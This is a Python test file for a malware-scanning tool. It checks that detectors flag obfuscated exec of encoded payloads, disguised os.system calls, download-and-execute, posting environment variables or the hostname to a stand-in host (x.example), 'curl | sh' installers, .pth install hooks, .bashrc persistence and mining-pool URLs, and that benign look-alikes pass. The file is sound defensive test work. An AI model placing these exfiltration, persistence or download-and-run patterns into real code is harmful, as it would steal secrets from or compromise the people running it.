"""The Python and text detectors on small snippets: evasions caught, honest look-alikes left alone."""

from __future__ import annotations

import pytest

from governance.config import ScanSettings
from governance.scan import scan_file


def found(source: str, name: str = "step.py") -> set[tuple[str, int]]:
    findings, _, _ = scan_file(name, source.encode(), settings=ScanSettings())
    return {(f.rule, f.line) for f in findings}


def signals(source: str, name: str = "step.py") -> set[str]:
    findings, _, _ = scan_file(name, source.encode(), settings=ScanSettings())
    return {f.rule for f in findings if f.severity != "low" or f.spec.kind == "threat"}


@pytest.mark.parametrize(
    ("source", "rule", "line"),
    [
        ("import base64\nx = base64.b64decode('aWQ=')\ny = x\nexec(y)\n", "exec-base64", 4),
        ("from base64 import b64decode as d\nrun = exec\nrun(d('aWQ='))\n", "exec-base64", 3),
        ("import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))\n", "exec-base64", 2),
        ("import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n", "exec-base64", 2),
        ("exec(''.join(map(chr, [112, 114, 105, 110, 116])))\n", "exec-base64", 1),
        ("getattr(__import__('o'+'s'), 'sys'+'tem')('id')\n", "api-obfuscation", 1),
        ("import builtins\nf = vars(builtins)['ev' + 'al']\nf('1')\n", "api-obfuscation", 3),
        (
            "import importlib\nm = importlib.import_module('sub' + 'process')\nm.run(['id'])\n",
            "api-obfuscation",
            3,
        ),
        (
            "import base64, subprocess\nsubprocess.run(base64.b64decode('aWQ=').decode(), shell=True)\n",
            "exec-base64",
            2,
        ),
        ("import requests\nexec(requests.get('https://x.example/p').text)\n", "download-execute", 2),
        (
            "import os, requests\nrequests.post('https://x.example', json={**os.environ})\n",
            "exfiltrate-sensitive-data",
            2,
        ),
        (
            "import socket, requests\nh = socket.gethostname()\nrequests.get('https://x.example/?' + h)\n",
            "exfiltrate-sensitive-data",
            3,
        ),
        ("import pyperclip\npyperclip.paste()\n", "clipboard-access", 2),
        (
            "import subprocess\nsubprocess.Popen(['a'], start_new_session=True)\n",
            "silent-process-execution",
            2,
        ),
        ("import yaml\nyaml.load(open('c.yml'))\n", "unsafe-deserialization", 2),
        ("open('/home/u/.bashrc', 'a').write('x')\n", "autostart-persistence", 1),
        ("URL = 'https://webhook.site/abc-123'\n", "suspicious-url", 1),
        ("POOL = 'stratum+tcp://pool.example:3333'\n", "cryptomining", 1),
    ],
)
def test_each_malicious_pattern_is_found_on_its_statement_line(source: str, rule: str, line: int):
    assert (rule, line) in found(source)


@pytest.mark.parametrize(
    "source",
    [
        "import base64, json\njson.loads(base64.b64decode('e30='))\n",
        "import ast\nast.literal_eval('[1]')\n",
        "import re\npattern = re.compile('a+')\n",
        "from re import compile\ncompile('a+')\n",
        "class Db:\n    def exec(self, q):\n        return q\nDb().exec('select 1')\n",
        "import yaml\nyaml.load(open('c.yml'), Loader=yaml.SafeLoader)\nyaml.safe_load('a: 1')\n",
        "import importlib\nimportlib.import_module(f'plugins.{name}')\n",
        "import logging\nlevel = getattr(logging, 'INFO')\n",
        "import os, requests\nrequests.get('https://api.github.com', headers={'T': os.environ['GITHUB_TOKEN']})\n",
        "GREETING = 'family 👨‍👩‍👧 and café'\n",
        "LOCAL = 'http://127.0.0.1:8080/health'\n",
        'def f():\n    """Never pipe curl into sh; see https://pastebin.com/faq."""\n',
        "EXPECTED_SHA256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n",
        "open('/tmp/out.csv', 'w').write('a')\n",
        "import platform, requests\nrequests.get('https://x.example', headers={'UA': platform.system()})\n",
    ],
)
def test_honest_look_alikes_raise_no_signal(source: str):
    assert signals(source) == set()


def test_a_shell_script_that_pipes_a_download_into_sh_is_flagged():
    assert ("download-pipe-shell", 2) in found(
        "#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n", "install.sh"
    )


def test_a_pth_file_that_imports_code_is_an_install_hook():
    assert ("install-hook", 1) in found("import os; os.system('id')\n", "zz.pth")


def test_a_setup_py_that_overrides_install_is_an_install_hook():
    source = (
        "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
        "class Post(install):\n    def run(self):\n        pass\n\nsetup(cmdclass={'install': Post})\n"
    )
    assert {("install-hook", 4), ("install-hook", 8)} <= found(source, "setup.py")


def test_bidirectional_overrides_are_flagged_but_emoji_joiners_are_not():
    assert ("unicode-bidi", 1) in found('x = "admin\u202e"\n')
    assert signals('x = "\U0001f468\u200d\U0001f469"\n') == set()
